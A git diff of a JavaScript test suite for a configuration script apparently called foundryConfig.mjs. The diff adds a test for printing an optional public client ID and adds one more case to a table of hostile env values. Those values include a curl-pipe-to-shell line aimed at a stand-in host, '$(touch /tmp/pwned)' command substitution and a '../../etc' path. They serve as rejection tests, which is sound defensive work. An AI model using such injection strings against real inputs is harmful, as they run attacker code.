@@ -125,6 +125,22 @@ describe('foundryConfig.mjs', () => {
     expect(JSON.parse(run.stdout)).toMatchObject(Object.fromEntries(EXPECTED));
   });
 
+  it('prints the public client for code-first agents when the deployment registered one, and nothing about it otherwise', async () => {
+    const publicClient = '3d4c5b6a-0000-4000-8000-000000000003';
+    const withIt = join(dir, 'public-client.env');
+    await writeFile(withIt, `${dotenv({ ...OUTPUTS, PUBLIC_CLIENT_APP_ID: publicClient })}\n`);
+    const run = await runScript(['--env-file', withIt]);
+    expect(run.code).toBe(0);
+    expect(printsField(run.stdout, 'Public client ID', publicClient)).toBe(true);
+    expect(run.stdout).toContain('npm run example:code-first -- --config onbehalf.json');
+
+    const without = join(dir, 'no-public-client.env');
+    await writeFile(without, `${dotenv({ ...OUTPUTS, PUBLIC_CLIENT_APP_ID: '' })}\n`);
+    const none = await runScript(['--env-file', without]);
+    expect(none.code).toBe(0);
+    expect(none.stdout).not.toMatch(/public client/i);
+  });
+
   it('exits 1 naming each missing value', async () => {
     const { CLIENT_APP_ID: _client, FOUNDRY_SCOPES: _scopes, ...partial } = OUTPUTS;
     const file = join(dir, 'partial.env');
@@ -158,6 +174,7 @@ describe('foundryConfig.mjs with hostile values', () => {
     ['CLIENT_APP_ID', `${CLIENT}; curl https://evil.example | sh`],
     ['CLIENT_APP_ID', '$(touch /tmp/pwned)'],
     ['SERVER_APP_ID', 'not-a-guid'],
+    ['PUBLIC_CLIENT_APP_ID', '$(touch /tmp/pwned)'],
     ['AZURE_TENANT_ID', '../../etc'],
   ])('refuses %s that is not a GUID: %s', async (name, value) => {
     const run = await runWith({ ...OUTPUTS, [name]: value });
